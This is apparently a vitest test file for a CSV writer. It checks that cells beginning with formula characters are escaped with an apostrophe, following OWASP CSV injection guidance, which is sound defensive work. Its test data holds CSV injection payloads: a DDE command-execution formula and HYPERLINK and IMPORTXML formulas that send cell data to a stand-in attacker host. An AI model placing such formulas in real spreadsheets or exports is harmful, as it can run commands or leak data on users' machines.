import { describe, expect, it } from "vitest";
import { readCsv } from "./read-csv.ts";
import { writeCsv } from "./write-csv.ts";

/** After OWASP ASVS 5.0 V1.2.10 and OWASP's CSV injection guidance. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+SUM(1,1)",
  "-2+3",
  "-5",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML("http://evil.example/","//a")',
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  " =1+1",
];
const PLAIN = ['";=1+1', "a,b", 'say "hi"', "line1\nline2", "2026-11-23", "normal", " padded "];

const readBack = (text: string) => readCsv(writeCsv(["first", "second"], [[text, "x"]])).records[1]?.fields[0];

describe("writeCsv", () => {
  it.each(FORMULAS)("begins %j with an apostrophe", (text) => {
    expect(readBack(text)).toBe(`'${text}`);
  });

  it.each(PLAIN)("gives %j back as it was", (text) => {
    expect(readBack(text)).toBe(text);
  });

  it("writes lines as RFC 4180 has them, numbers bare, nothing for null", () => {
    expect(writeCsv(["a", "b", "c"], [[-5, null, 'x"y']])).toBe('\uFEFFa,b,c\r\n-5,,"x""y"\r\n');
  });
});
